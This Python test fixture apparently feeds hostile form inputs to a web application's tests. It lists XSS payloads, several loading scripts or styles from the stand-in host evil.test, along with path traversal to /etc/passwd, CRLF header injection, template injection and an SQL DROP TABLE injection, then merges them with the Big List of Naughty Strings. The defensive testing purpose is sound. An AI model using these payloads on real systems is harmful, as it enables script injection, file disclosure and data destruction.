"""What people with bad intentions, and people with unusual names, put into forms."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

# One for each place in which text may stand: element, attribute, address, style, script, comment, template, Markdown.
XSS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "</textarea><script>alert(2)</script>",
    "</title><script>alert(3)</script>",
    "<img src=x onerror=alert(4)>",
    '"><img src=x onerror=alert(5)>',
    "'><svg/onload=alert(6)>",
    '" autofocus onfocus=alert(7) x="',
    "' onmouseover='alert(8)",
    "<svg><animate onbegin=alert(9) attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(10)&gt;">',
    "<iframe srcdoc='<script>parent.alert(11)</script>'></iframe>",
    "<object data=javascript:alert(12)></object>",
    "<a href=javascript:alert(13)>x</a>",
    "javascript:alert(14)",
    "JaVaScRiPt&colon;alert(15)",
    "data:text/html,<script>alert(16)</script>",
    "[x](javascript:alert(17))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxOCk8L3NjcmlwdD4=)",
    '![x](x"onerror=alert(19) y=")',
    "<style>@import'//evil.test/x.css'</style>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.test/>",
    "<base href=//evil.test/>",
    "<form action=//evil.test/><button>x</button></form>",
    "<details open ontoggle=alert(20)>",
    "--><script>alert(21)</script><!--",
    "]]><script>alert(22)</script>",
    "{{ 7*7 }}{% debug %}{% load static %}",
    "${alert(23)}`${alert(24)}`",
    "\\u003cscript\\u003ealert(25)\\u003c/script\\u003e",
    "\x00<script>alert(26)</script>",
    "\u202e<script>alert(27)</script>\u2066",
    "%3Cscript%3Ealert(28)%3C/script%3E",
    "&lt;script&gt;alert(29)&lt;/script&gt;",
    "<x onclick=alert(30) tabindex=1 id=x>#x",
    "../../../../etc/passwd",
    "a\r\nSet-Cookie: evil=1",
    "' OR 1=1; DROP TABLE transparency_person; --",
)


def naughty_strings(vectors: Callable[[str], Path]) -> list[str]:
    """The 515 of the Big List, and ours."""
    listed: list[str] = json.loads((vectors("names") / "blns.json").read_text("utf-8"))
    return [*XSS, *listed]
